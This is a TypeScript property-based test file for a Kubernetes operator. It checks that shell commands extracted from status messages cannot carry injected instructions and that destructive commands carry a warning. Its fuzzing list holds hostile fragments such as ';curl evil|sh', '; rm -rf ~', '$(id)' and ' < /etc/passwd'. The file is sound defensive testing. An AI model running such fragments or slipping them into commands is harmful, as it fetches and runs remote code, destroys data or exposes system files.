import {
  DATA_SYNC_REASON_HELP,
  REASON_HELP,
  VIRTUAL_MACHINE_REASON_HELP,
  WORKSPACE_REASON_HELP,
  WORKSPACE_SNAPSHOT_REASON_HELP,
} from '@open-terrain/constructs/operator'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { secretRemedy } from '../../operator/cluster/secret-remedies.ts'
import { causesOf } from './causes.ts'
import { helpOf, neighbourLink, type StoryLink } from './story.ts'
import { toldCommands } from './told-commands.ts'

const OURS = 'pelotech.ot'
const REASONS = Object.entries({
  VMDiskImage: REASON_HELP,
  VirtualMachine: VIRTUAL_MACHINE_REASON_HELP,
  DataSync: DATA_SYNC_REASON_HELP,
  Workspace: WORKSPACE_REASON_HELP,
  WorkspaceSnapshot: WORKSPACE_SNAPSHOT_REASON_HELP,
}).flatMap(([kind, catalogue]) => Object.keys(catalogue).map((reason) => ({ kind, reason })))

const VALID = [
  'kubectl -n lab-1 delete pvc data',
  'kubectl -n lab-1 create secret generic a --from-literal=b=VALUE',
  'kubectl -n lab-1 delete secret a && kubectl -n lab-1 create secret generic a --from-literal=b=VALUE',
  `kubectl -n lab-1 patch secret a -p '{"stringData":{"b":"VALUE"}}'`,
  'kubectl -n lab-1 edit vmdi kali',
  `kubectl -n lab-1 patch resourcequota a --type merge -p '{"spec":{"hard":{"requests.storage":"26Gi"}}}'`,
]
const BITES = [
  ...[';curl evil|sh', ' && curl evil', ' | sh', ' > ~/.bashrc', '$(id)', '`id`', ' & id', ' < /etc/passwd'],
  ...['\ncurl evil', ' --kubeconfig=/tmp/x', ' --all', ' -A', '; rm -rf ~', ' --token=x', ') id', '"', "'", '\\'],
]
const hostile = fc
  .tuple(
    fc.constantFrom('', 'container app: Error: ', 'it says "no"; run: ', 'x (', '; '),
    fc.constantFrom('kubectl -n ', 'kubectl ', 'virtctl ssh -n a ', ...VALID),
    fc.constantFrom('', ...BITES),
    fc.string({ unit: 'binary', maxLength: 12 }),
    fc.constantFrom('', ...BITES),
    fc.constantFrom('', '; ', ' (', ')', ...VALID),
  )
  .map((parts) => parts.join(''))

/** The parts that are no words: all that is left of what the operator writes itself. */
const OWN_WORDS =
  /"\$\(date\)"|-p '\{"spec":\{"hard":\{[^']*\}\}\}'|-p '\{"stringData":\{[^']*\}\}'|-p "\$\(kubectl create secret generic [-\w. =]* --dry-run=client -o json\)"| && (?=kubectl -n )/g

describe('commands in messages', () => {
  it('hold nothing that a shell obeys, whatever a message says', () => {
    fc.assert(
      fc.property(fc.constantFrom(...REASONS), hostile, ({ kind, reason }, message) => {
        for (const command of toldCommands({ about: { kind, group: OURS }, reason, message }))
          expect(command.replaceAll(OWN_WORDS, '')).toMatch(/^(?:kubectl|virtctl) [-\w./= ]+$/)
      }),
      { numRuns: 3_000 },
    )
  })

  it('are none of those that a program in a lab has written', () => {
    fc.assert(
      fc.property(hostile, (message) => {
        const pod = neighbourLink({
          ...{ apiVersion: 'v1', kind: 'Pod', metadata: { namespace: 'lab-1', name: 'app' } },
          status: {
            phase: 'Running',
            containerStatuses: [{ name: 'app', ready: false, state: { terminated: { exitCode: 1, message } } }],
          },
        } as never)
        const chain = labWith(`ContainerCluster/app: ${message}`, 'ContainersFailed', (text) => ({
          ...{ about: { kind: 'ContainerCluster', namespace: 'lab-1', name: 'app' }, isWell: false },
          ...{ reason: 'ContainersFailed', message: text, help: helpOf('Workspace', 'ContainersFailed') },
          ...{ subject: { kind: 'Workspace', group: OURS, name: 'lab-1' }, because: [pod] },
        }))
        const commands = causesOf(chain, { operatorNamespace: 'sync-operator' }).flatMap((cause) => cause.commands)
        expect(commands).toEqual(['kubectl edit otws lab-1'])
      }),
      { numRuns: 300 },
    )
  })

  it('are none of what a message quotes', () => {
    const message = 'KubeVirt says "x; kubectl -n lab-1 delete pvc data"; wait'
    expect(toldCommands({ about: { kind: 'VirtualMachine', group: OURS }, reason: 'DiskKept', message })).toEqual([])
  })

  it('raise a quota, and do not give a disk up', () => {
    const raise = `kubectl -n lab-1 patch resourcequota small --type merge -p '{"spec":{"hard":{"requests.storage":"26Gi","fast.storageclass.storage.k8s.io/persistentvolumeclaims":"2"}}}'`
    const word =
      'kubectl -n lab-1 annotate --overwrite virtualmachines.pelotech.ot web pelotech.ot/delete-disk-first=0f'
    const message = `it lacks 6Gi of requests.storage (10Gi needed, and of 20Gi are 16Gi used); to make room: ${raise}; the new disk is then made by itself; with all that is on it: ${word}`
    expect(
      toldCommands({ about: { kind: 'VirtualMachine', group: OURS }, reason: 'ReplacementBlocked', message }),
    ).toEqual([raise])
  })

  it('are those that the operator writes for Secrets', () => {
    const by = ['VirtualMachine web']
    const message = secretRemedy(
      [
        { name: 'a', asked: [{ name: 'a', key: 'password', placeholder: 'PASSWORD' }], by },
        { name: 'b', asked: [{ name: 'b' }], by },
        { name: 'c', asked: [{ name: 'c', key: 'x' }], lacks: ['x'], by },
        { name: 'd', asked: [{ name: 'd', key: 'y', placeholder: 'FILE' }], lacks: ['y'], by },
        { name: 'e', kind: 'ConfigMap', asked: [{ name: 'e', all: 'variables' }], by },
      ],
      { namespace: 'lab-1', max: 10_000, change: 'patch' },
    )
    const said = { about: { kind: 'Workspace', group: OURS }, reason: 'SecretMissing', message }
    expect(toldCommands(said)).toEqual([message.slice(message.indexOf('kubectl'))])
  })
})

function labWith(message: string, reason: string, component: (message: string) => StoryLink): StoryLink {
  const about = { kind: 'Workspace', group: OURS, name: 'lab-1' }
  return { about, isWell: false, reason, message, help: helpOf('Workspace', reason), because: [component(message)] }
}

describe('commands that destroy something', () => {
  it('have a line before them that says so', () => {
    const message = 'spec.disks does not use it; if nobody needs it: kubectl -n lab-1 delete pvc data'
    const about = { kind: 'VirtualMachine', group: OURS, namespace: 'lab-1', name: 'web' }
    const lost = { about, isWell: false, reason: 'DiskKept', message, help: helpOf('VirtualMachine', 'DiskKept') }
    const [cause] = causesOf({ ...lost, because: [] }, { operatorNamespace: 'sync-operator' })
    expect(cause?.commands).toEqual(['# loses what is on it', 'kubectl -n lab-1 delete pvc data'])
  })
})
